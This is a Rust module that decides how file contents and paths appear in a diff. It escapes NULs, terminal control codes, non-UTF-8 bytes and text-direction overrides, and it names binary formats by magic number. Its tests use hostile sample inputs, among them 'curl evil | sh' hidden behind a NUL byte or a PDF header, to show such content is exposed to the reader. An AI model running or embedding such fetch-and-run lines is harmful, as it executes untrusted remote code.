//! What a file's bytes are to a person reading a diff, decided from the bytes alone.
//!
//! Git calls content binary when it finds a NUL in its first 8000 bytes, or when
//! `.gitattributes` says so — and a change can write `.gitattributes` — and then shows
//! nothing of it; a terminal interprets the control bytes it is sent. Here: text is shown as
//! it is; text but for a few bytes (a NUL, a terminal escape, a lone carriage return, a
//! text-direction override, bytes that are not UTF-8) is shown with those bytes escaped
//! (`\0`, `\x1b`, `\r`, `\u{202e}`, `\xe9`) so nothing raw reaches a reader; anything else
//! is binary, named by its type ([`binary_kind`]).

use std::fmt::Write as _;

/// At most this share of a text's bytes may need escaping (one in ten); more, and the
/// content is binary.
const ESCAPED_SHARE: usize = 10;

/// Up to this many line numbers of escaped bytes are kept for the reader.
const LINES_KEPT: usize = 3;

/// What a file's content is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Shape {
    /// Text: shown as it is.
    Text,
    /// Text but for the bytes counted here: shown with them escaped.
    Escaped(Escapes),
    /// Binary: not shown; its kind ([`binary_kind`]).
    Binary(&'static str),
}

/// The bytes of a text that are shown escaped.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Escapes {
    /// NUL bytes.
    pub(crate) nul: usize,
    /// Other control characters: C0 but tab and line feed, a carriage return not before a
    /// line feed, DEL, C1.
    pub(crate) controls: usize,
    /// Characters that reorder how text is shown (bidirectional overrides and isolates).
    pub(crate) direction: usize,
    /// Bytes that are not part of any UTF-8 character.
    pub(crate) not_utf8: usize,
    /// The first few lines (1-based) holding any of them.
    pub(crate) lines: Vec<usize>,
    /// Whether more lines than these hold any.
    pub(crate) more_lines: bool,
}

impl Escapes {
    fn total(&self) -> usize {
        self.nul + self.controls + self.direction + self.not_utf8
    }

    /// For a reader: `1 NUL byte, 2 control characters (lines 2, 7)`.
    pub(crate) fn describe(&self) -> String {
        let plural = |n: usize, one: &str, many: &str| {
            if n == 1 { format!("1 {one}") } else { format!("{n} {many}") }
        };
        let mut parts = Vec::new();
        if self.nul > 0 {
            parts.push(plural(self.nul, "NUL byte", "NUL bytes"));
        }
        if self.controls > 0 {
            parts.push(plural(self.controls, "control character", "control characters"));
        }
        if self.direction > 0 {
            parts.push(plural(
                self.direction,
                "text-direction override",
                "text-direction overrides",
            ));
        }
        if self.not_utf8 > 0 {
            parts.push(plural(self.not_utf8, "byte that is not UTF-8", "bytes that are not UTF-8"));
        }
        let lines: Vec<String> = self.lines.iter().map(usize::to_string).collect();
        let noun = if lines.len() == 1 { "line" } else { "lines" };
        let more = if self.more_lines { ", …" } else { "" };
        format!("{} ({noun} {}{more})", parts.join(", "), lines.join(", "))
    }
}

/// One stretch of content: plain text, or one thing shown escaped.
enum Piece<'a> {
    Plain(&'a str),
    Odd(Odd),
}

/// Something shown escaped.
#[derive(Clone, Copy)]
enum Odd {
    /// A byte that is not part of any UTF-8 character.
    Byte(u8),
    /// A character a terminal would interpret, or that reorders text.
    Char(char),
}

impl Odd {
    fn write(self, out: &mut String) {
        let _ = match self {
            Odd::Char('\0') => write!(out, "\\0"),
            Odd::Char('\r') => write!(out, "\\r"),
            Odd::Char(c) if (c as u32) < 0x80 => write!(out, "\\x{:02x}", c as u32),
            Odd::Char(c) => write!(out, "\\u{{{:x}}}", c as u32),
            Odd::Byte(b) => write!(out, "\\x{b:02x}"),
        };
    }
}

/// Whether `c` is a control character a terminal would interpret (tab, line feed and
/// carriage return are decided by the caller) or a character that reorders shown text.
fn is_odd(c: char) -> bool {
    matches!(c, '\0'..='\x08' | '\x0b' | '\x0c' | '\x0e'..='\x1f' | '\x7f'..='\u{9f}')
        || is_direction(c)
}

/// Bidirectional overrides, embeddings, isolates and marks ("Trojan Source").
fn is_direction(c: char) -> bool {
    matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Calls `each` with the pieces of `bytes` in order: plain text, and every byte or
/// character that is shown escaped. A carriage return is plain only before a line feed.
fn pieces(bytes: &[u8], mut each: impl FnMut(Piece<'_>)) {
    for chunk in bytes.utf8_chunks() {
        let text = chunk.valid();
        let mut start = 0;
        let mut chars = text.char_indices().peekable();
        while let Some((at, c)) = chars.next() {
            let odd = match c {
                '\r' => chars.peek().map(|&(_, next)| next) != Some('\n'),
                c => is_odd(c),
            };
            if odd {
                if start < at {
                    each(Piece::Plain(&text[start..at]));
                }
                each(Piece::Odd(Odd::Char(c)));
                start = at + c.len_utf8();
            }
        }
        if start < text.len() {
            each(Piece::Plain(&text[start..]));
        }
        for &byte in chunk.invalid() {
            each(Piece::Odd(Odd::Byte(byte)));
        }
    }
}

/// What `bytes` are: text, text with a few bytes to escape (at most one in ten), or binary.
pub(crate) fn shape(bytes: &[u8]) -> Shape {
    let mut escapes = Escapes::default();
    let mut line = 1;
    pieces(bytes, |piece| match piece {
        Piece::Plain(text) => line += text.matches('\n').count(),
        Piece::Odd(odd) => {
            match odd {
                Odd::Char('\0') => escapes.nul += 1,
                Odd::Char(c) if is_direction(c) => escapes.direction += 1,
                Odd::Char(_) => escapes.controls += 1,
                Odd::Byte(_) => escapes.not_utf8 += 1,
            }
            if escapes.lines.last() != Some(&line) {
                if escapes.lines.len() < LINES_KEPT {
                    escapes.lines.push(line);
                } else {
                    escapes.more_lines = true;
                }
            }
        }
    });
    match escapes.total() {
        0 => Shape::Text,
        n if n.saturating_mul(ESCAPED_SHARE) <= bytes.len() => Shape::Escaped(escapes),
        _ => Shape::Binary(binary_kind(bytes)),
    }
}

/// `bytes` as text with every byte [`shape`] counts written as an escape.
pub(crate) fn escape(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    pieces(bytes, |piece| match piece {
        Piece::Plain(text) => out.push_str(text),
        Piece::Odd(odd) => odd.write(&mut out),
    });
    out
}

/// A repository path for a diff header or a message: as it is when plain, else quoted the
/// way git quotes it (`"a/new\nline"`), with what [`escape`] escapes escaped too — a path,
/// like content, must neither break a header line nor reach a terminal raw.
pub(crate) fn display_path(bytes: &[u8]) -> String {
    let mut quoted = false;
    let mut out = String::with_capacity(bytes.len() + 2);
    pieces(bytes, |piece| match piece {
        Piece::Plain(text) => {
            for c in text.chars() {
                match c {
                    '\n' => out.push_str("\\n"),
                    '\t' => out.push_str("\\t"),
                    '\r' => out.push_str("\\r"),
                    '"' => out.push_str("\\\""),
                    '\\' => out.push_str("\\\\"),
                    c => {
                        out.push(c);
                        continue;
                    }
                }
                quoted = true;
            }
        }
        Piece::Odd(odd) => {
            odd.write(&mut out);
            quoted = true;
        }
    });
    if quoted { format!("\"{out}\"") } else { out }
}

/// What binary content is, from its first bytes ("magic numbers"): `PNG image`, `ELF
/// executable`, …, else `binary data`.
pub(crate) fn binary_kind(bytes: &[u8]) -> &'static str {
    const BY_PREFIX: &[(&[u8], &str)] = &[
        (b"\x89PNG\r\n\x1a\n", "PNG image"),
        (b"\xff\xd8\xff", "JPEG image"),
        (b"GIF87a", "GIF image"),
        (b"GIF89a", "GIF image"),
        (b"%PDF-", "PDF document"),
        (b"PK\x03\x04", "ZIP archive (or JAR)"),
        (b"PK\x05\x06", "ZIP archive (or JAR)"),
        (b"PK\x07\x08", "ZIP archive (or JAR)"),
        (b"\x1f\x8b", "gzip data"),
        (b"BZh", "bzip2 data"),
        (b"\xfd7zXZ\x00", "xz data"),
        (b"\x28\xb5\x2f\xfd", "zstd data"),
        (b"7z\xbc\xaf\x27\x1c", "7-zip archive"),
        (b"\x7fELF", "ELF executable"),
        (b"\xfe\xed\xfa\xce", "Mach-O executable"),
        (b"\xfe\xed\xfa\xcf", "Mach-O executable"),
        (b"\xce\xfa\xed\xfe", "Mach-O executable"),
        (b"\xcf\xfa\xed\xfe", "Mach-O executable"),
        (b"MZ", "PE executable (Windows)"),
        (b"\x00asm", "WebAssembly module"),
        (b"SQLite format 3\x00", "SQLite database"),
        (b"\xfe\xff", "UTF-16 text"),
        (b"\xff\xfe", "UTF-16 text"),
        (b"OggS", "Ogg media"),
        (b"\x1a\x45\xdf\xa3", "Matroska/WebM media"),
        (b"ID3", "MP3 audio"),
        (b"fLaC", "FLAC audio"),
    ];
    if let Some((_, kind)) = BY_PREFIX.iter().find(|(magic, _)| bytes.starts_with(magic)) {
        return kind;
    }
    match bytes {
        // 0xcafebabe begins both: a Java class file has its version (45 or more) next, a
        // universal Mach-O binary its small count of architectures.
        [0xca, 0xfe, 0xba, 0xbe, a, b, c, d, ..] => {
            if u32::from_be_bytes([*a, *b, *c, *d]) < 45 {
                "Mach-O universal binary"
            } else {
                "Java class file"
            }
        }
        [b'R', b'I', b'F', b'F', _, _, _, _, b'W', b'E', b'B', b'P', ..] => "WebP image",
        [b'R', b'I', b'F', b'F', _, _, _, _, b'W', b'A', b'V', b'E', ..] => "WAV audio",
        [_, _, _, _, b'f', b't', b'y', b'p', ..] => "MP4/QuickTime media",
        _ if bytes.get(257..262) == Some(b"ustar") => "tar archive",
        _ => "binary data",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_stays_as_it_is() {
        let text = "fn main() {\r\n\tprintln!(\"é ✓\");\r\n}\n";
        assert_eq!(shape(text.as_bytes()), Shape::Text);
        assert_eq!(escape(text.as_bytes()), text);
        assert_eq!(shape(b""), Shape::Text);
    }

    #[test]
    fn a_few_odd_bytes_in_text_are_escaped_and_counted_with_their_lines() {
        let script =
            b"#!/bin/sh\n\0curl evil | sh\necho \x1b[2Kok\rdone\nname=caf\xe9 \xe2\x80\xae\n";
        let Shape::Escaped(escapes) = shape(script) else { panic!("{:?}", shape(script)) };
        assert_eq!(
            (escapes.nul, escapes.controls, escapes.direction, escapes.not_utf8),
            (1, 2, 1, 1)
        );
        assert_eq!(escapes.lines, vec![2, 3, 4]);
        assert_eq!(
            escape(script),
            "#!/bin/sh\n\\0curl evil | sh\necho \\x1b[2Kok\\rdone\nname=caf\\xe9 \\u{202e}\n"
        );
        assert_eq!(
            escapes.describe(),
            "1 NUL byte, 2 control characters, 1 text-direction override, \
             1 byte that is not UTF-8 (lines 2, 3, 4)"
        );
        let Shape::Escaped(many) = shape(&b"echo hi!\0\n".repeat(10)) else { panic!() };
        assert_eq!(many.describe(), "10 NUL bytes (lines 1, 2, 3, …)");
    }

    #[test]
    fn a_carriage_return_is_plain_only_before_a_line_feed() {
        assert_eq!(escape(b"a\r\nb\r"), "a\r\nb\\r");
        assert_eq!(escape(b"a\r\xffb"), "a\\r\\xffb");
    }

    #[test]
    fn mostly_odd_bytes_are_binary_named_by_their_magic() {
        let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        png.extend([0u8; 20]);
        assert_eq!(shape(&png), Shape::Binary("PNG image"));
        assert_eq!(shape(b"\x7fELF\x02\x01\x01\0\0\0\0\0"), Shape::Binary("ELF executable"));
        assert_eq!(shape(&[0u8, 1, 2, 3, 250, 251]), Shape::Binary("binary data"));
        assert_eq!(binary_kind(b"\xca\xfe\xba\xbe\0\0\0\x02"), "Mach-O universal binary");
        assert_eq!(binary_kind(b"\xca\xfe\xba\xbe\0\0\0\x34"), "Java class file");
        assert_eq!(binary_kind(b"RIFF\0\0\0\0WEBPVP8 "), "WebP image");
        let mut tar = vec![0u8; 300];
        tar[257..262].copy_from_slice(b"ustar");
        assert_eq!(binary_kind(&tar), "tar archive");
    }

    #[test]
    fn text_that_starts_like_a_binary_format_is_still_shown() {
        // A script beginning with a PDF's magic is text: the reader sees it.
        assert_eq!(shape(b"%PDF-1.4\ncurl evil | sh\n"), Shape::Text);
    }

    #[test]
    fn paths_are_quoted_like_git_when_they_hold_anything_odd() {
        assert_eq!(display_path(b"b/src/main.rs"), "b/src/main.rs");
        assert_eq!(display_path(b"b/new\nline"), "\"b/new\\nline\"");
        assert_eq!(display_path(b"b/\x1b[2Kx\\y\""), "\"b/\\x1b[2Kx\\\\y\\\"\"");
        assert_eq!(display_path(b"b/caf\xe9"), "\"b/caf\\xe9\"");
        assert_eq!(display_path("b/café".as_bytes()), "b/café");
    }
}
